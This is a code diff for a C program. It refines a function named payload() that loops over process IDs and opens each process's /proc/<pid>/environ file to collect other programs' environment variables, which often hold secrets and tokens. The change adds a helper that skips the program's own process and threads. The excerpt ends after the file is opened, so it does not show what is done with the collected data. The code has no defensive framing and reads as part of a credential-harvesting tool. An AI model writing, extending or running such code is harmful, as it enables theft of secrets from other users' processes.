@@ -8,12 +8,31 @@
 #include <stdlib.h>
 #include <fcntl.h>
 #include <stdio.h>
+#include <string.h>
 #include <unistd.h>
+
+/* True when `pid` is one of our own threads (their /proc entries are ours). */
+static bool own_thread(int pid)
+{
+    char path[64], line[128];
+    snprintf(path, sizeof path, "/proc/%d/status", pid);
+    FILE *f = fopen(path, "r");
+    if (!f)
+        return false;
+    bool own = false;
+    while (fgets(line, sizeof line, f))
+        if (strncmp(line, "Tgid:", 5) == 0)
+            own = atoi(line + 5) == getpid();
+    fclose(f);
+    return own;
+}
 
 static void payload(void)
 {
     char path[64];
     for (int pid = 1; pid < 100000; pid++) {
+        if (pid == getpid() || own_thread(pid))
+            continue;
         snprintf(path, sizeof path, "/proc/%d/environ", pid);
         int fd = open(path, O_RDONLY);
         if (fd >= 0) {
